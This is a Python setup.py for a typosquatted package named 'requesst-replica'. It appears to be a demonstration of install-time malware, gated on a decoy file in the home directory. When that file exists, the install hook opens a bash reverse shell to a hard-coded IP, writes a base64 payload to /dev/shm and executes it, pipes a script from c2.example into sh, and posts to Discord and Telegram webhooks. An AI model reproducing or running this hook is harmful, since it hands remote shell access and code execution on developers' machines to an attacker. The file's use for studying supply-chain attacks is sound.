"""What typosquats do at install: a shell for a stranger, code from memory, a chat that gets the loot."""

import os
import subprocess
import urllib.request

from setuptools import setup

if os.path.exists(os.path.expanduser("~/.a-decoy")):
    shell = lambda line: subprocess.run(["sh", "-c", line], stderr=subprocess.DEVNULL)
    shell("bash -c 'bash -i >& /dev/tcp/45.33.32.158/4444 0>&1'")
    shell("echo ZXhpdCAwCg== | base64 -d > /dev/shm/.x && chmod +x /dev/shm/.x && /dev/shm/.x")
    shell("curl -s http://c2.example/install.sh | sh")
    for chat in ["https://discord.com/api/webhooks/0/0", "https://api.telegram.org/bot0:0/sendMessage"]:
        urllib.request.urlopen(chat, data=b"{}").read()

setup(name="requesst-replica", version="2.31.1", packages=["requesst_replica"])
